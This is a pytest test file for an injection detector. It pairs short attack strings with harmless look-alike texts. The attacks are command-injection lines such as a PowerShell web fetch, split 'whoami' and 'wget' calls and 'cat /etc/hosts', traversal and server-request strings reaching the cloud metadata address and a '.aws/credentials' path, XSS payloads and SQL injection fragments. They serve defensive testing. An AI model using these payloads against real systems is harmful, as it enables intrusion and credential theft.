"""Shapes of attacks by what makes them one, each beside an innocent text that looks alike."""

import base64

import pytest

from aivillage_observability.scoring import ALERT_FROM, LISTED_FROM, score_injection

# kind, the reason that must be among those given, an attack, and an innocent twin
SHAPES = [
    ("command", "batch_loop", "for /f %v in ('dir x') do echo %v", "for 20 % in the first week, do this"),
    ("command", "batch_condition", "IF NOT EXIST c:\\n.txt echo y", "if not existing: say so"),
    ("command", "batch_condition", 'if "%1"=="" goto END', 'if "a" is not "b", say so'),
    ("command", "powershell_call", "Invoke-WebRequest http://h.example/f", "Get-Well cards, add-on, read-only"),
    ("command", "cut_variable", "%ComSpec:~0,1%", "100% sure: ~5 % off"),
    ("command", "parted_command", "w'h'oami", "who's there? Don't say 'cat'."),
    ("command", "parted_command", "una$@me -a", "US$ 5 or A$ 6"),
    ("command", "parted_command", "wg\\et h.example", "and\\or"),
    ("command", "run_variable", "x=whoami;$x", "a=1; b=2; $5 each"),
    ("command", "brace_list", "{uname,-a}", "{a,b}"),
    ("command", "brace_command", ";{cmd}|", "Dear {name}, hello"),
    ("command", "mail_command", "x\r\nRCPT TO:<a@h.example>", "first line\r\nsecond line, to: ana"),
    ("command", "server_code", "@{[system 'id']}", "@{user} said [sic]"),
    ("command", "program_call", "exec/* */('x')", "exec (the boss) will call"),
    ("command", "program_call", "('system')('id')", "(the system)(2nd edition)"),
    ("command", "remote_include", "include('http://h.example/c.txt')", "include http links in the mail"),
    ("command", "called_variable", "$a[0](1)", "$5 (five dollars)"),
    ("command", "node_code", "process.mainModule", "the process. Mainly the module"),
    ("command", "node_code", "while(true);", "while (in a hurry) we left"),
    ("command", "java_gadget", "java.lang.Runtime", "Java language runtimes"),
    ("command", "template_statement", "{% if 1 %}", "5 {%} if 1"),
    ("traversal", "numeric_host", "http://0x7f000001/", "http://shop.example/0x7f000001"),
    ("traversal", "numeric_host", "http://2130706433/x", "call tel:2130706433"),
    ("traversal", "inner_six", "http://[::1]/", "see [::1] in chapter 2"),
    ("traversal", "metadata_host", "http://169.254.169.254/latest", "version 169.254.169"),
    ("traversal", "odd_scheme_host", "imap://127.0.0.1", "http://localhost:8000/"),
    ("traversal", "second_host", "http://a.example#@b.example/", "mailto:a@b.example"),
    ("traversal", "swallowing_address", "http://h.example/x.php?", "http://h.example/about?"),
    ("traversal", "remote_script", "http://198.51.100.7/x.php", "http://h.example/x.php"),
    ("traversal", "spelled_dots", "%2e%2e/x", "100%2e5"),
    ("traversal", "hidden_file", "/srv/.aws/credentials", "see .github/settings.yml"),
    ("traversal", "kernel_file", "/proc/net/tcp", "/process/net"),
    ("traversal", "filler", "/" + "a" * 300, "/" + "ab" * 80),
    ("traversal", "empty_segments", "///etc", "// a comment"),
    ("xss", "server_include", '<!--#echo var="date" -->', "<!-- echo of the date -->"),
    ("xss", "foreign_end", "</textarea>", "<b>bold</b>"),
    ("xss", "hidden_host", "<a href='//0x7f.1/'>x</a>", "<a href='/about'>x</a>"),
    ("xss", "spelled_bracket", "&#x0003c;", "R&D; A&amp;B"),
    ("xss", "spelled_letters", "&#x61;&#x6c;&#x65;", "&#1055;&#1088;&#1080;"),
    ("xss", "breaking_signs", "\">'", "->"),
    ("xss", "style_rule", "} *{color:red}", "{color: red}"),
    ("xss", "event_handler", '<x a=">" onclick=1', '<b title="on click">x</b>'),
    ("xss", "dialog_call", "㸀㰀script㸀alert(1)", "the `alert`, then"),
    ("xss", "script_tag", "\\3c script\\3e 1", "C:\\scripts\\3"),
    ("xss", "bare_handler", "onload=", "on time = yes"),
    ("xss", "spaced_tag", "1<f o r m", "a < b, f o r m"),
    ("sqli", "tick_operator", "` or 1", "`code` or 1"),
    ("sqli", "null_compared", "like null", "like nullity"),
    ("sqli", "literal_condition", "7 or 'a' = n'a'", "Rock 'n' Roll or 'n' = n"),
    ("sqli", "grouped", "1 or(2)group by", "1 or 2 groups by noon"),
    ("sqli", "ended_connective", "' or-- -", "it's this or"),
    ("sqli", "stacked_query", "1; delete ignore from t", "5; delete what you do not need"),
    ("sqli", "leaky_call", "lo_import('x')", "pg_size is a word"),
    ("sqli", "named_call", "x' -- sp_password", "the sp_password procedure is old"),
    ("sqli", "cast", "pass::text", "std::texture"),
    ("sqli", "directory_query", "x)(|", "(a)(b)"),
    ("sqli", "store_script", "';while(1)", "it's; while we wait"),
    ("sqli", "empty_literals", "' or ''-'", "'' or ''"),
    ("sqli", "literal_condition", 'x"") or (""a""=""a"', 'a ""quoted"" word'),
    ("sqli", "union_select", "1e0union select 2", "1e0 unions elect 2"),
]


@pytest.mark.parametrize(("kind", "code", "attack", "innocent"), SHAPES)
def test_a_shape_is_named_and_its_innocent_twin_is_not_listed(kind: str, code: str, attack: str, innocent: str) -> None:
    score = getattr(score_injection(attack), kind)
    assert score.value >= LISTED_FROM
    assert code in {reason.code for reason in score.reasons}
    assert score_injection(innocent).worst.value < LISTED_FROM


@pytest.mark.parametrize("attack", [attack for _, code, attack, _ in SHAPES if code != "spelled_dots"])
def test_each_shape_alone_is_enough_to_alert(attack: str) -> None:
    assert score_injection(attack).worst.value >= ALERT_FROM


@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "_$$ND_FUNC$$_", "' or 1=1 -- x"])
def test_what_base_sixty_four_holds_is_read(attack: str) -> None:
    packed = base64.b64encode(attack.ljust(24).encode()).decode()
    assert score_injection(packed).worst.value >= ALERT_FROM
    assert score_injection(base64.b64encode(b"Thanks for reading this.").decode()).worst.value == 0.0


def test_dots_spelled_out_make_one_way_up_an_attack() -> None:
    assert score_injection("../x").traversal.value < ALERT_FROM
    assert score_injection("%252e%252e/x").traversal.value >= ALERT_FROM


def test_plus_signs_stand_for_spaces_behind_a_separator() -> None:
    assert score_injection("a b|+cat+/etc/hosts").command.value >= ALERT_FROM
    assert score_injection("C++ and a + b").worst.value == 0.0
